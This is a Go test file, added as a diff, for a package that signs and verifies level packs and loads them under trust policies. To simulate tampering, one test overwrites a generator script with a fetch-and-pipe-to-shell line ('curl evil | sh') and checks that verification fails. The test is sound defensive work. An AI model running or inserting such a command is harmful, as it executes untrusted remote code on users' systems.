@@ -0,0 +1,145 @@
+package levels
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+const generatorLevelYAML = `kind: level
+schema_version: 1
+level_id: level-gen
+title: "Gen"
+difficulty: 1
+estimated_minutes: 1
+filesystem:
+  dataset:
+    source: generator
+    path: dataset
+    mount_point: /levels/current
+    generator: { command: ./gen.sh }
+  work: { mount_point: /work }
+objective:
+  bullets: ["do it"]
+checks:
+  - { id: c1, type: file_exists, description: "exists", path: /work/out.txt }
+`
+
+func writeGeneratorLevel(t *testing.T, packDir string) {
+	t.Helper()
+	levelDir := filepath.Join(packDir, "levels", "level-gen")
+	if err := os.MkdirAll(levelDir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(levelDir, "level.yaml"), []byte(generatorLevelYAML), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	script := "#!/bin/sh\necho generated > \"$DOJO_DATASET_DIR/data.txt\"\n"
+	if err := os.WriteFile(filepath.Join(levelDir, "gen.sh"), []byte(script), 0o755); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func newTestKey(t *testing.T) (*TrustStore, string) {
+	t.Helper()
+	dir := t.TempDir()
+	base := filepath.Join(dir, "author")
+	if _, err := GenerateKey(base); err != nil {
+		t.Fatalf("generate key: %v", err)
+	}
+	pub, err := ReadPublicKey(base + ".pub")
+	if err != nil {
+		t.Fatal(err)
+	}
+	trusted, _ := LoadTrustStore(filepath.Join(dir, TrustedKeysDirName))
+	if _, err := trusted.Add(pub); err != nil {
+		t.Fatal(err)
+	}
+	return trusted, base + ".key"
+}
+
+func TestSignAndVerifyPack(t *testing.T) {
+	root := t.TempDir()
+	writeTestPack(t, root, "signed", "Signed")
+	writeGeneratorLevel(t, filepath.Join(root, "signed"))
+	packDir := filepath.Join(root, "signed")
+	store, keyPath := newTestKey(t)
+	priv, err := ReadPrivateKey(keyPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if got := VerifyPack(packDir, store); got.Status != TrustStatusUnsigned {
+		t.Fatalf("expected unsigned before signing, got %+v", got)
+	}
+	if _, err := SignPack(packDir, priv); err != nil {
+		t.Fatalf("sign: %v", err)
+	}
+	if got := VerifyPack(packDir, store); got.Status != TrustStatusTrusted {
+		t.Fatalf("expected trusted, got %+v", got)
+	}
+	if got := VerifyPack(packDir, &TrustStore{}); got.Status != TrustStatusUnknownKey {
+		t.Fatalf("expected unknown_key with an empty store, got %+v", got)
+	}
+
+	// Generator output is not covered by the signature.
+	if err := os.MkdirAll(filepath.Join(packDir, "levels", "level-gen", "dataset"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(packDir, "levels", "level-gen", "dataset", "data.txt"), []byte("x"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if got := VerifyPack(packDir, store); got.Status != TrustStatusTrusted {
+		t.Fatalf("expected generated files to be ignored, got %+v", got)
+	}
+
+	if err := os.WriteFile(filepath.Join(packDir, "levels", "level-gen", "gen.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	got := VerifyPack(packDir, store)
+	if got.Status != TrustStatusInvalid || !strings.Contains(got.Detail, "gen.sh") {
+		t.Fatalf("expected tampered gen.sh to invalidate the signature, got %+v", got)
+	}
+}
+
+func TestLoadPacksTrustPolicies(t *testing.T) {
+	root := t.TempDir()
+	writeTestPack(t, root, "unsigned", "Unsigned")
+	writeGeneratorLevel(t, filepath.Join(root, "unsigned"))
+
+	refused := []string{}
+	loader := &FSLoader{TrustPolicy: TrustPolicyRefuse, OnRefused: func(path string, err error) { refused = append(refused, path) }}
+	packs, err := loader.LoadPacks(context.Background(), root)
+	if err != nil {
+		t.Fatalf("load: %v", err)
+	}
+	if len(packs) != 0 || len(refused) != 1 {
+		t.Fatalf("expected the unsigned pack to be refused, got packs=%d refused=%v", len(packs), refused)
+	}
+
+	loader = &FSLoader{TrustPolicy: TrustPolicySandboxOnly}
+	packs, err = loader.LoadPacks(context.Background(), root)
+	if err != nil {
+		t.Fatalf("load: %v", err)
+	}
+	if len(packs) != 1 || !packs[0].Trust.Restricted || packs[0].Trust.Status != TrustStatusUnsigned {
+		t.Fatalf("expected one restricted pack, got %+v", packs)
+	}
+	// Generators only run in the sandbox, so restricted packs keep them.
+	if len(packs[0].LoadedLevels) != 2 {
+		t.Fatalf("expected both levels to load, got %d", len(packs[0].LoadedLevels))
+	}
+	if !packs[0].LoadedLevels[0].Restricted {
+		t.Fatalf("levels of a restricted pack should be restricted")
+	}
+	if _, err := os.Stat(filepath.Join(root, "unsigned", "levels", "level-gen", "dataset")); !os.IsNotExist(err) {
+		t.Fatalf("loading must not write into the pack")
+	}
+
+	packs, err = (&FSLoader{TrustPolicy: TrustPolicyRefuse}).LoadPackRoots(context.Background(), []PackRoot{{Path: root, Source: RootSourceBuiltin}})
+	if err != nil || len(packs) != 1 || packs[0].Trust.Status != TrustStatusBuiltin || len(packs[0].LoadedLevels) != 2 {
+		t.Fatalf("expected built-in root to be trusted as installed, got %+v err=%v", packs, err)
+	}
+}